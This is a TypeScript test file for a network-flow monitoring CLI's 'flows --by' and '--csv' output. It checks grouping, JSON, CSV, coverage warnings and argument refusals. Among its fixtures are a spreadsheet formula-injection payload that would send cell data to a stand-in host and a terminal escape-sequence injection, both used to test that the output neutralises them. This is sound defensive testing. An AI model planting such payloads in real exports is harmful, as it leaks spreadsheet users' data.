/** `flows` over a real database, through the command line as a person types it. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { explainFailure } from '../../src/cli/lib/failure.ts';
import type { FlowRecord } from '../../src/model/flow.ts';
import { Station } from '../../src/station/station.ts';
import { memoryLogger, stationConfig, temporaryDirectory } from '../station/support/harness.ts';
import { coverage, database, endpoint, flow, loss, outside, T0 } from '../station/support/records.ts';
import { runProgram } from './support/run-program.ts';

const MINUTE = 60_000_000;
const NOW = T0 + 30 * MINUTE;
const api = endpoint({ workload: { ...database, name: 'shop-api-1', composeService: 'api' } });
const evil = '=HYPERLINK("http://x/?"&A1)';

let directory: ReturnType<typeof temporaryDirectory>;
let path: string;

function egress(
  n: number,
  name: string | undefined,
  bytes: number,
  over: Partial<FlowRecord> = {},
): FlowRecord {
  return flow(n, {
    start: T0 + n * MINUTE,
    end: T0 + n * MINUTE,
    orig: api,
    resp: outside({ ip: '198.51.100.7', port: 443, names: name === undefined ? [] : [name] }),
    origBytes: bytes,
    respBytes: 0,
    direction: 'egress',
    ...over,
  });
}

beforeAll(async () => {
  directory = temporaryDirectory();
  path = join(directory.path, 'bridgewatch.db');
  const station = new Station(stationConfig(directory.path), {
    logger: memoryLogger().logger,
    now: () => NOW,
  });
  await station.start();
  for (const record of [
    egress(1, 'cdn.example.com', 3 * 1024 * 1024),
    egress(2, 'cdn.example.com', 1024 * 1024),
    egress(3, evil, 1024),
    egress(4, undefined, 512),
    egress(5, 'x,"y"\u001b[31m', 256),
    loss(6, { source: 'kernel-ring', count: 12 }),
    coverage(7, { network: 'shop_data', state: 'uncovered', time: T0 + MINUTE }),
    coverage(8, { network: 'host', state: 'uncovered', time: T0 + MINUTE }),
    coverage(9, { network: 'none', state: 'uncovered', time: T0 + MINUTE }),
  ])
    station.receive(record);
  await station.stop();
});

afterAll(() => directory.remove());
beforeEach(() => {
  vi.useFakeTimers({ now: NOW / 1000, toFake: ['Date'] });
});
afterEach(() => {
  vi.useRealTimers();
});

const run = (...args: string[]) => runProgram(path, 'flows', ...args);

async function refused(...args: string[]): Promise<string> {
  try {
    await run(...args);
  } catch (error) {
    const { lines, exitCode } = explainFailure(error);
    expect(exitCode).toBe(2);
    return lines.join('\n');
  }
  throw new Error('it was not refused');
}

describe('flows --by', () => {
  it('tells the largest groups and one line for the others, whose shares are the whole', async () => {
    const { stdout } = await run('direction:egress', '--by', 'orig.service,resp.name', '--top', '1');
    const lines = stdout.trimEnd().split('\n');

    expect(lines[0]).toMatch(/^SRC\.SERVICE +DST\.NAME +BYTES +SHARE +FLOWS +FIRST +LAST$/);
    expect(lines[1]).toMatch(/^api +cdn\.example\.com +4\.0 MiB +100\.0 % +2 /);
    expect(lines[2]).toMatch(/^\(3 others\) +1\.8 KiB +0\.0 % +3 /);
    expect(lines).toHaveLength(3);
  });

  it('writes nothing of a name to the terminal that acts there', async () => {
    const { stdout } = await run('--by', 'dst.name');

    expect(stdout).not.toContain('\u001b');
    expect(stdout).toMatch(/^- +512 B/m);
  });

  it('tells JSON with the fields by name, and the others last', async () => {
    const { stdout } = await run('--by', 'dst.name', '--sum', 'bytes,flows', '--top', '3', '--json');
    const records = stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));

    expect(records).toHaveLength(4);
    expect(records[0]).toMatchObject({
      kind: 'flow-group',
      key: { 'dst.name': 'cdn.example.com' },
      flows: 2,
      sums: { bytes: 4 * 1024 * 1024, flows: 2 },
    });
    expect(records[2].key).toEqual({});
    expect(records[3]).toMatchObject({ others: 1, flows: 1 });
  });

  it('tells CSV that no spreadsheet takes for a formula', async () => {
    const { stdout } = await run('--by', 'dst.name', '--csv');
    const lines = stdout.split('\r\n');

    expect(lines[0]).toBe('dst.name,flows,bytes,first,last,others');
    expect(lines[2]).toMatch(/^"'=HYPERLINK\(""http:\/\/x\/\?""&A1\)",1,1024,/);
    expect(lines[3]).toMatch(/^,1,512,/);
    expect(lines.at(-1)).toBe('');
  });

  it('says what the sums may lack', async () => {
    const { stderr } = await run('--by', 'src', '--since', '2d');

    expect(stderr).toContain('kernel-ring 12');
    // What the engine calls host and none is never tapped: every answer would have to say so.
    expect(stderr).toContain('not all of that time was seen on shop_data;');
    expect(stderr).toContain('stored flows begin at');
  });

  it('says how it was answered when asked to', async () => {
    expect((await run('--by', 'src', '--explain')).stderr).toContain('answered from the index');
    expect((await run('--by', 'history', '--explain')).stderr).toContain('history is not in the index');
  });

  it('prints what docs/history.md shows', async () => {
    const page = readFileSync(new URL('../../docs/history.md', import.meta.url), 'utf8');
    const asked = ['direction:egress', '--by', 'orig.service,resp.name', '--sum', 'bytes', '--top', '2'];

    expect(page).toContain((await run(...asked)).stdout);
    expect(page).toContain((await run(...asked, '--json')).stdout);
    expect(page).toContain((await run(...asked, '--csv')).stdout.replaceAll('\r\n', '\n'));
  });

  it('refuses a field that does not exist, with a caret under it', async () => {
    expect(await refused('--by', 'src,dst.nme')).toContain('did you mean "dst.name"?');
  });

  it('refuses what means nothing together', async () => {
    expect(await refused('--sum', 'bytes')).toContain('--sum needs --by');
    expect(await refused('--by', 'src', '--json', '--csv')).toContain('exclude each other');
    expect(await refused('--by', 'src', '--top', '0')).toContain('--top "0"');
  });

  it('says that there is nothing, and since when', async () => {
    expect((await run('dst.port:1', '--by', 'src')).stdout).toContain('No flow is recorded since');
  });
});

describe('flows --csv', () => {
  it('has a line of titles and one for each flow', async () => {
    const { stdout } = await run('--csv', '--limit', '2');
    const lines = stdout.split('\r\n');

    expect(lines[0]).toMatch(/^start,end,network,interface,src\.container,src\.ip,/);
    expect(lines).toHaveLength(4);
    expect(stdout).toContain('shop/api,');
  });
});
